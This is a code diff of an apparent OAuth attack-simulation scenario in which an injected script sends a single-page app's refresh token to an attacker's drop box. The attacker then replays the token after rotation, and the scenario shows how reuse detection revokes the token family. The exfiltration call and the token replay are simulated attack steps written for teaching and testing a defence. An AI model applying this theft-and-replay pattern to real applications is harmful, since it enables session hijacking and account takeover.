@@ -5,15 +5,16 @@ Rotation with reuse detection, which revokes the whole token family, stops it
 The victim uses the single-page app (public client demo-spa): its refresh token lives in
 the browser, where a script injected into the page can read it, and no client secret
 protects it. The SPA logs alice in with PKCE and gets its first tokens; the injected script
-sends the refresh token to the attacker; the SPA refreshes (rotation: a new refresh token,
-the old one spent); then the attacker uses the stolen, spent one.
+sends the refresh token to the attacker's drop box; the SPA refreshes (rotation: a new
+refresh token, the old one spent); then the attacker uses the stolen, spent one.
 
 The server cannot tell which of the two holders is the thief, so it revokes the whole family:
 the attacker gets invalid_grant, and the legitimate SPA is logged out too (its access token
-gets 401, its new refresh token invalid_grant). That is the right trade-off: alice logs in
-again, a few seconds of her time, while the thief loses access at once; keeping either
-token alive would keep the thief's chance alive. Without rotation (switched off for this
-run) the refresh token never changes: the attacker refreshes again and again, for ever.
+gets 401, its new refresh token invalid_grant). For a one-time theft that is the right
+trade-off: alice logs in again, and the thief's copy is dead. It is not enough against a
+script that stays in the page (persistent XSS): that script can take the new tokens too, or
+simply use the app's session from inside the page. Without rotation (switched off for this
+run) the refresh token never changes: the attacker refreshes again and again.
 """
 
 from __future__ import annotations
@@ -21,44 +22,55 @@ from __future__ import annotations
 import secrets
 
 from sim import defences
-from sim.attacker import Attacker
 from sim.parties import ATTACKER, AUTHORIZATION_SERVER
 from sim.scenarios.attack_common import (
     SPA,
-    AttackScenario,
-    Mark,
+    answer_param,
     error_of,
     pkce_pair,
-    query_param,
+    profile_owner,
+    read_profile,
     spa_authorization_url,
     spa_redirect_uri,
     token_request,
 )
-from sim.scenarios.base import ScenarioError, log_in_and_consent
+from sim.scenarios.base import (
+    AttackScenario,
+    Attempt,
+    Guard,
+    ScenarioError,
+    log_in_and_consent,
+    step,
+)
 
 ATTACKER_REFRESHES = 3
 TRADE_OFF = (
     "The server cannot tell the thief from the real app, so it revokes the whole family: the "
-    "real user logs in again (a small cost), and the thief loses access at once."
+    "real user logs in again, and this stolen copy is dead. That ends a one-time theft; a "
+    "script that stays in the page can steal the next tokens too."
 )
 
 
 class RefreshTokenReuse(AttackScenario):
     name = "refresh-token-reuse"
     description = "A stolen refresh token is used after rotation (reuse detection)"
-    defence = defences.REFRESH_ROTATION
-    defence_text = (
-        "Each refresh rotates the refresh token; presenting a spent one revokes the whole token "
-        "family, so the thief's and the real app's tokens all stop working."
-    )
     rfc = "RFC 9700 §4.14.2, RFC 6749 §6"
+    guards = (
+        Guard(
+            defences.REFRESH_ROTATION,
+            step(ATTACKER, AUTHORIZATION_SERVER, "POST", "/token"),
+            "a spent refresh token came back: invalid_grant, and the whole token family is revoked",
+            "the refresh token never changes, so the stolen one keeps working",
+            "RFC 9700 §4.14.2",
+        ),
+    )
 
-    def attack(self, sim, flow: str, insecure: bool, attacker: Attacker):
+    def attack(self, sim, flow, off, attacker) -> Attempt:
         spa = sim.user_agent(flow)  # the victim's browser running the SPA
         tokens = _spa_login(sim, spa)
         # A script injected into the SPA's page sends the refresh token to the attacker.
         spa.get(attacker.drop_box(refresh_token=tokens["refresh_token"]))
-        stolen = attacker.loot("leak")[-1]["params"]["refresh_token"]
+        stolen = attacker.last("leak", "refresh_token")
         # The SPA refreshes: with rotation it gets a new refresh token, the old one is spent.
         refreshed = token_request(
             spa,
@@ -87,14 +99,10 @@ class RefreshTokenReuse(AttackScenario):
             results.append(answer)
             if not answer.ok:
                 break
-        api_user = None
+        profile = None
         if results[-1].ok:
-            profile = attacker.http.get(
-                sim.resource_server_url + "/api/profile",
-                headers={"Authorization": f"Bearer {results[-1].json()['access_token']}"},
-                timeout=10,
-            )
-            api_user = profile.json().get("username") if profile.ok else None
+            profile = read_profile(attacker.http, sim, results[-1].json()["access_token"])
+        api_user = profile_owner(profile)
         # Meanwhile the real SPA carries on: its access token, then its refresh token.
         spa_api = spa.request(
             "GET",
@@ -125,21 +133,13 @@ class RefreshTokenReuse(AttackScenario):
         }
         if logged_out:
             evidence["trade_off"] = TRADE_OFF
-        mark = Mark(
-            ATTACKER,
-            AUTHORIZATION_SERVER,
-            "POST",
-            "/token",
-            self.marker(
-                insecure,
-                "refresh token rotation: a spent refresh token came back; invalid_grant and "
-                "the whole token family is revoked",
-                "refresh token rotation: the refresh token never changes, so the stolen one "
-                "keeps working",
-            ),
-        )
         succeeded = all(r.ok for r in results) and api_user == "alice"
-        return evidence, succeeded, [mark]
+        return Attempt(
+            evidence,
+            proof=profile if succeeded else None,
+            proves="the attacker, refreshing with the stolen token again and again, reads "
+            "alice's profile",
+        )
 
 
 def _spa_login(sim, spa) -> dict:
@@ -153,14 +153,14 @@ def _spa_login(sim, spa) -> dict:
     )
     callback = spa.location(last) or ""
     spa.get(callback)  # the SPA's page loads and its script reads code and state
-    if query_param(callback, "state") != state:
+    if answer_param(callback, "state") != state:
         raise ScenarioError("the SPA's state did not come back")
     answer = token_request(
         spa,
         sim,
         {
             "grant_type": "authorization_code",
-            "code": query_param(callback, "code"),
+            "code": answer_param(callback, "code"),
             "redirect_uri": redirect_uri,
             "client_id": SPA.client_id,
             "code_verifier": verifier,
